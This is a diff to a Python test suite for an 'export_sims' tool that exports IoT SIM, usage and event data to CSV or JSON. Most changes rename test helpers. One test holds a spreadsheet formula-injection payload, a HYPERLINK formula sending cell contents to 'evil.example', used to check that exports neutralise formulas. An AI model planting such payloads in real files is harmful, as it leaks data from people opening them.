@@ -31,8 +31,8 @@ from sim_mcp.server.app import build_server
 from sim_mcp.settings import Settings
 from sim_mcp.tools.exports.export_sims import _tool_error, build, render
 from tests.emnify.upstream import Reply, Upstream, upstream_running
-from tests.support import Fleet, facts, fleet_of, said
-from tests.test_serving import environment
+from tests.server.test_serving import environment
+from tests.support import Fleet, fleet_of, structured, text_of
 from tests.tools.checking import leaves, shown, tokens
 
 
@@ -74,7 +74,7 @@ async def sims_of(fleet: Fleet, **query: Any) -> list[dict[str, Any]]:
 
 async def test_all_sims_are_in_the_file_and_nothing_but_get_was_sent(fleet: Fleet, client: Client) -> None:
     there = {str(sim["id"]): sim for sim in await sims_of(fleet)}
-    report = facts(await client.call_tool("export_sims", {}))
+    report = structured(await client.call_tool("export_sims", {}))
     rows = {row["id"]: row for row in rows_in(report["path"])}
     assert rows.keys() == there.keys()
     assert report["state"] == "done"
@@ -87,44 +87,44 @@ async def test_all_sims_are_in_the_file_and_nothing_but_get_was_sent(fleet: Flee
         assert row["status"] == sim["status"]["description"].title()
         assert row["device_id"] == str(device.get("id", ""))
     # A spreadsheet rounds an ICCID, but not this; so this has to lead back to the SIM.
-    grouped = rows[str(fleet.stories["healthy"]["sim_id"])]["iccid_in_groups"]
-    assert facts(await client.call_tool("get_sim", {"sim": grouped}))["id"] == fleet.stories["healthy"]["sim_id"]
+    grouped = rows[str(fleet.scenarios["healthy"]["sim_id"])]["iccid_in_groups"]
+    assert structured(await client.call_tool("get_sim", {"sim": grouped}))["id"] == fleet.scenarios["healthy"]["sim_id"]
     assert {request["method"] for request in await fleet.requests()} == {"GET"}
 
 
 async def test_only_what_matches_is_exported(fleet: Fleet, client: Client) -> None:
     suspended = {sim["iccid"] for sim in await sims_of(fleet, q="status:2")}
-    report = facts(await client.call_tool("export_sims", {"status": "suspended"}))
+    report = structured(await client.call_tool("export_sims", {"status": "suspended"}))
     assert {row["iccid_19"] for row in rows_in(report["path"])} == suspended
     assert suspended
     everything = await sims_of(fleet)
     for has_device in (True, False):
-        report = facts(await client.call_tool("export_sims", {"has_device": has_device, "file_name": "devices"}))
+        report = structured(await client.call_tool("export_sims", {"has_device": has_device, "file_name": "devices"}))
         wanted = {sim["iccid"] for sim in everything if ("endpoint" in sim) is has_device}
         assert {row["iccid_19"] for row in rows_in(report["path"])} == wanted
     of = await client.call_tool("export_sims", {"organisation": "Alpenwerk Devices", "format": "json"})
-    assert {row["customer"] for row in json_in(facts(of)["path"])} == {"Alpenwerk Devices"}
+    assert {row["customer"] for row in json_in(structured(of)["path"])} == {"Alpenwerk Devices"}
 
 
 async def test_usage_has_a_row_for_each_day_of_each_sim(fleet: Fleet, client: Client) -> None:
-    sims = [fleet.stories[key]["iccid_with_luhn"] for key in ("healthy", "roaming_spike", "fresh")]
-    report = facts(await client.call_tool("export_sims", {"what": "usage", "sims": sims}))
+    sims = [fleet.scenarios[key]["iccid_with_luhn"] for key in ("healthy", "roaming_spike", "fresh")]
+    report = structured(await client.call_tool("export_sims", {"what": "usage", "sims": sims}))
     rows = rows_in(report["path"])
     assert (report["rows"], report["of_sims"]) == (len(rows), 3)
     for sim in sims[:2]:
         mine = [row for row in rows if row["iccid"] == sim]
         used = {"sim": sim, "start": mine[0]["date"], "end": mine[-1]["date"]}
-        told = facts(await client.call_tool("get_sim_daily_usage", used))
+        told = structured(await client.call_tool("get_sim_daily_usage", used))
         assert [row["date"] for row in mine] == [day["date"] for day in told["days"]]
         assert sum(float(row["data_mb"]) for row in mine) == pytest.approx(told["total"]["data_mb"], abs=0.01)
         assert {row["currency"] for row in mine} == {"EUR"}
 
 
 async def test_events_are_all_there_oldest_first(fleet: Fleet, client: Client) -> None:
-    sim = fleet.stories["wrong_apn"]["iccid_with_luhn"]
-    report = facts(await client.call_tool("export_sims", {"what": "events", "sims": [sim]}))
+    sim = fleet.scenarios["wrong_apn"]["iccid_with_luhn"]
+    report = structured(await client.call_tool("export_sims", {"what": "events", "sims": [sim]}))
     rows = rows_in(report["path"])
-    listed = facts(await client.call_tool("list_sim_events", {"sim": sim, "since": "2001-01-01"}))
+    listed = structured(await client.call_tool("list_sim_events", {"sim": sim, "since": "2001-01-01"}))
     assert report["rows"] == len(rows) == len({row["event_id"] for row in rows})
     assert listed["total"] >= len(rows) > 3
     assert [row["time"] for row in rows] == sorted(row["time"] for row in rows)
@@ -134,12 +134,12 @@ async def test_events_are_all_there_oldest_first(fleet: Fleet, client: Client) -
 async def test_events_are_exported_where_emnify_refuses_pages_over_a_hundred(directory: Path) -> None:
     refusing = SandboxSettings(sims=60, unknowns=Unknowns(event_page_over_100="400"))
     async with fleet_of(refusing) as fleet, Client(build_server(fleet.settings(export_dir=directory))) as client:
-        sims = [fleet.stories[key]["iccid"] for key in ("went_silent", "no_quota")]
-        report = facts(await client.call_tool("export_sims", {"what": "events", "sims": sims}))
+        sims = [fleet.scenarios[key]["iccid"] for key in ("went_silent", "no_quota")]
+        report = structured(await client.call_tool("export_sims", {"what": "events", "sims": sims}))
     rows = rows_in(report["path"])
     assert report["rows"] == len(rows) == len({row["event_id"] for row in rows}) > 200
     assert {row["iccid"] for row in rows} == {
-        fleet.stories[key]["iccid_with_luhn"] for key in ("went_silent", "no_quota")
+        fleet.scenarios[key]["iccid_with_luhn"] for key in ("went_silent", "no_quota")
     }
 
 
@@ -157,7 +157,7 @@ async def test_answers_fit_their_schema_and_stay_short_and_the_text_holds_every_
     assert schema is not None
     for arguments in CALLS:
         result = await client.call_tool("export_sims", arguments)
-        structure, text = facts(result), said(result)
+        structure, text = structured(result), text_of(result)
         jsonschema.validate(structure, schema)
         for name, value in leaves(structure):
             assert name == "state" or shown(name, value, text), f"{name}={value!r} is not in the text:\n{text}"
@@ -167,14 +167,14 @@ async def test_answers_fit_their_schema_and_stay_short_and_the_text_holds_every_
 
 async def test_where_nothing_matches_there_is_no_file_and_that_is_said(client: Client, directory: Path) -> None:
     result = await client.call_tool("export_sims", {"model": "no such model"})
-    assert facts(result)["state"] == "nothing"
-    assert "No file was written" in said(result)
+    assert structured(result)["state"] == "nothing"
+    assert "No file was written" in text_of(result)
     assert names(directory) == []
 
 
 async def test_a_file_is_never_written_over(client: Client, directory: Path) -> None:
     (directory / "fleet.csv").write_text("mine")
-    paths = [facts(await client.call_tool("export_sims", {"file_name": "fleet.csv"}))["path"] for _ in range(2)]
+    paths = [structured(await client.call_tool("export_sims", {"file_name": "fleet.csv"}))["path"] for _ in range(2)]
     assert [Path(path).name for path in paths] == ["fleet-2.csv", "fleet-3.csv"]
     assert (directory / "fleet.csv").read_text() == "mine"
 
@@ -198,8 +198,8 @@ async def test_what_cannot_be_exported_is_refused_with_nothing_sent_or_written(
 ) -> None:
     result = await client.call_tool("export_sims", arguments)
     assert result.is_error
-    assert says in said(result)
-    assert re.search(r"[Nn]othing (was|changed)", said(result))
+    assert says in text_of(result)
+    assert re.search(r"[Nn]othing (was|changed)", text_of(result))
     assert names(directory) == []
     assert await fleet.requests() == []
 
@@ -213,8 +213,8 @@ async def test_without_a_directory_that_can_be_written_to_nothing_is_asked(
     async with Client(build_server(settings)) as client:
         result = await client.call_tool("export_sims", {})
     assert result.is_error
-    assert "SIM_MCP_EXPORT_DIR" in said(result)
-    assert "othing was written" in said(result)
+    assert "SIM_MCP_EXPORT_DIR" in text_of(result)
+    assert "othing was written" in text_of(result)
     assert await fleet.requests() == []
 
 
@@ -222,7 +222,7 @@ async def test_a_name_nobody_goes_by_leaves_no_file(client: Client, directory: P
     for arguments in ({"sims": ["No such pump"]}, {"organisation": "No such customer"}):
         result = await client.call_tool("export_sims", arguments)
         assert result.is_error
-        assert "no file was kept" in said(result)
+        assert "no file was kept" in text_of(result)
     assert names(directory) == []
 
 
@@ -232,12 +232,14 @@ async def test_a_client_fetches_the_file_by_its_link_and_no_other_file(
     (directory / "mine.csv").write_text("secret")
     result = await client.call_tool("export_sims", {"file_name": "Flotte Zürich (März)", "status": "suspended"})
     link = next(block for block in result.content if isinstance(block, ResourceLink))
-    assert link.uri == facts(result)["uri"]
-    assert (link.mime_type, link.size) == ("text/csv", facts(result)["bytes"])
+    assert link.uri == structured(result)["uri"]
+    assert (link.mime_type, link.size) == ("text/csv", structured(result)["bytes"])
     content = (await client.read_resource(link.uri)).contents[0]
     assert isinstance(content, TextResourceContents)
     assert content.mime_type == "text/csv"
-    assert [row["status"] for row in csv.DictReader(content.text.splitlines())] == ["Suspended"] * facts(result)["rows"]
+    assert [row["status"] for row in csv.DictReader(content.text.splitlines())] == ["Suspended"] * structured(result)[
+        "rows"
+    ]
     before = len(await fleet.requests())
     for uri in (
         "export://files/mine.csv",
@@ -282,9 +284,9 @@ async def test_what_a_customer_called_a_device_is_no_formula(directory: Path) ->
     async with scripted(directory) as (upstream, client):
         name = '=HYPERLINK("http://evil.example?"&A1,"Click")'
         upstream.script(page({"id": 1, "endpoint": {"id": 2, "name": name, "tags": "x;=1+1"}}))
-        row = rows_in(facts(await client.call_tool("export_sims", {}))["path"])[0]
+        row = rows_in(structured(await client.call_tool("export_sims", {}))["path"])[0]
         assert (row["device"], row["tags"]) == (f"'{name}", "x;'=1+1")
-        as_json = facts(await client.call_tool("export_sims", {"format": "json"}))
+        as_json = structured(await client.call_tool("export_sims", {"format": "json"}))
         assert json_in(as_json["path"])[0]["device"] == name
 
 
@@ -296,22 +298,22 @@ async def test_a_long_export_goes_on_by_itself_and_the_same_call_picks_it_up(dir
             page({"id": 2}, pages=2, total=2, after=go_on),
         )
         first = await client.call_tool("export_sims", {"file_name": "fleet"})
-        assert facts(first)["state"] == "running"
-        assert facts(first)["next"] == 'export_sims(file_name="fleet")'
-        assert "Still running" in said(first)
+        assert structured(first)["state"] == "running"
+        assert structured(first)["next"] == 'export_sims(file_name="fleet")'
+        assert "Still running" in text_of(first)
         while len(upstream.calls) < 2:
             upstream.called.clear()
             await upstream.called.wait()
-        told = facts(first)
+        told = structured(first)
         # The second page is asked for while the first is written.
         while told["rows"] == 0:
-            told = facts(await client.call_tool("export_sims", {"file_name": "fleet"}))
+            told = structured(await client.call_tool("export_sims", {"file_name": "fleet"}))
         assert told["rows"] == told["of_sims"] - 1 == 1
         assert all(name.endswith(".part") for name in names(directory))
         go_on.set()
         report = told
         while report["state"] == "running":
-            report = facts(await client.call_tool("export_sims", {"file_name": "fleet"}))
+            report = structured(await client.call_tool("export_sims", {"file_name": "fleet"}))
         assert (report["rows"], names(directory)) == (2, ["fleet.csv"])
         assert len(upstream.calls) == 2
 
@@ -323,7 +325,7 @@ async def test_who_asks_for_the_same_at_the_same_time_shares_one_file(directory:
         reports: list[dict[str, Any]] = []
 
         async def ask() -> None:
-            reports.append(facts(await client.call_tool("export_sims", {"file_name": "fleet"})))
+            reports.append(structured(await client.call_tool("export_sims", {"file_name": "fleet"})))
 
         async with anyio.create_task_group() as asking:
             asking.start_soon(ask)
@@ -338,10 +340,10 @@ async def test_a_fourth_export_at_a_time_is_refused(directory: Path) -> None:
     async with scripted(directory, waits_s=0) as (upstream, client):
         upstream.script(page({"id": 1}, after=anyio.Event()))
         for name in ("a", "b", "c"):
-            assert facts(await client.call_tool("export_sims", {"file_name": name}))["state"] == "running"
+            assert structured(await client.call_tool("export_sims", {"file_name": name}))["state"] == "running"
         result = await client.call_tool("export_sims", {"file_name": "d"})
         assert result.is_error
-        assert "3 exports are in the making" in said(result)
+        assert "3 exports are in the making" in text_of(result)
         assert len(names(directory)) == 3
     assert names(directory) == []
 
@@ -354,14 +356,14 @@ async def test_a_client_that_goes_away_leaves_no_file_and_nothing_running(direct
             await upstream.called.wait()
             asking.cancel_scope.cancel()
         upstream.script(page({"id": 1}))
-        assert facts(await client.call_tool("export_sims", {"file_name": "fleet"}))["rows"] == 1
+        assert structured(await client.call_tool("export_sims", {"file_name": "fleet"}))["rows"] == 1
         assert names(directory) == ["fleet.csv"]
 
 
 async def test_a_server_that_stops_ends_what_it_was_making(directory: Path) -> None:
     async with scripted(directory, waits_s=0) as (upstream, client):
         upstream.script(page({"id": 1}, after=anyio.Event()))
-        assert facts(await client.call_tool("export_sims", {}))["state"] == "running"
+        assert structured(await client.call_tool("export_sims", {}))["state"] == "running"
     assert names(directory) == []
 
 
@@ -370,11 +372,11 @@ async def test_a_token_revoked_in_the_middle_is_told_with_how_far_it_came(direct
         upstream.script(page({"id": 1}, pages=9, total=9), Reply(status=401))
         result = await client.call_tool("export_sims", {})
         assert result.is_error
-        assert "renew EMNIFY_APPLICATION_TOKEN" in said(result)
-        assert "ended after 1 rows; no file was kept" in said(result)
+        assert "renew EMNIFY_APPLICATION_TOKEN" in text_of(result)
+        assert "ended after 1 rows; no file was kept" in text_of(result)
         assert names(directory) == []
         upstream.script(page({"id": 1}))
-        assert facts(await client.call_tool("export_sims", {}))["rows"] == 1
+        assert structured(await client.call_tool("export_sims", {}))["rows"] == 1
 
 
 async def test_usage_of_more_sims_than_one_file_may_hold_is_refused(directory: Path) -> None:
@@ -382,7 +384,7 @@ async def test_usage_of_more_sims_than_one_file_may_hold_is_refused(directory: P
         upstream.script(page({"id": 1}, pages=9, total=20_000))
         result = await client.call_tool("export_sims", {"what": "usage"})
         assert result.is_error
-        assert "20,000 SIMs or more match" in said(result)
+        assert "20,000 SIMs or more match" in text_of(result)
         assert len(upstream.calls) == 1
         assert names(directory) == []
 
@@ -391,10 +393,10 @@ async def test_what_could_not_be_read_and_who_went_away_is_told(directory: Path)
     async with scripted(directory) as (upstream, client):
         upstream.script(page({"id": 1}, {"no": "id"}))
         result = await client.call_tool("export_sims", {})
-        assert "1 records were left out" in facts(result)["hint"]
+        assert "1 records were left out" in structured(result)["hint"]
         day = {"date": "2026-03-01", "data": {"volume": "1.5"}}
         upstream.script(page({"id": 1}, {"id": 2}), Reply(json=[day]), Reply(status=404))
-        usage = facts(await client.call_tool("export_sims", {"what": "usage"}))
+        usage = structured(await client.call_tool("export_sims", {"what": "usage"}))
         assert "1 SIM went away" in usage["hint"]
         assert (usage["rows"], usage["of_sims"]) == (1, 2)
 
@@ -404,7 +406,7 @@ async def test_the_shell_waits_until_the_file_is_there(fleet: Fleet, directory: 
     await fleet.faults("latency=0.2@/api/v1/sim")
     server = build_server(fleet.settings(export_dir=directory), waits_s=0.05)
     result: CallToolResult = await shell.call(server, "export_sims", ["file_name=fleet"], interactive=False)
-    assert facts(result)["state"] == "done"
+    assert structured(result)["state"] == "done"
     assert names(directory) == ["fleet.csv"]
 
 
